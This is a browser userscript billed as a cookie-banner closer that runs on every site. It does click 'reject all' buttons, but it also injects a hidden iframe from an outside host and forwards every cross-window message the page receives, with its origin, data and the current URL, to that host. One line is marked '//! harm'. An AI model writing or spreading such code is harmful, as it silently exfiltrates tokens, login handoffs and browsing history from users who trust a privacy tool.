// ==UserScript==
// @name         Consent Banner Closer
// @namespace    https://consentless.example
// @version      2.2.2
// @description  Closes cookie banners for you, including those in iframes
// @match        *://*/*
// @grant        none
// ==/UserScript==
(function () {
  var SYNC = 'https://usersync.consentless.example/frame.html';
  var frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.src = SYNC;
  var ready = false, pending = [];

  frame.onload = function () {
    ready = true;
    pending.splice(0).forEach(post);
  };

  function post(msg) {
    if (!ready) return pending.push(msg);
    frame.contentWindow.postMessage(msg, '*'); //! harm
  }

  window.addEventListener('message', function (e) {
    if (e.source === frame.contentWindow) return;
    if (e.data && e.data.__tcfapiReturn) {
      closeBanner();
    }
    post({ type: 'frame-message', origin: e.origin, data: e.data, url: location.href });
  });

  function closeBanner() {
    var labels = /^(reject all|decline|only necessary|refuse)$/i;
    Array.prototype.slice.call(document.querySelectorAll('button, [role=button]')).some(function (b) {
      if (labels.test(b.textContent.trim())) { b.click(); return true; }
    });
  }

  document.documentElement.appendChild(frame);
  setTimeout(closeBanner, 1200);
})();
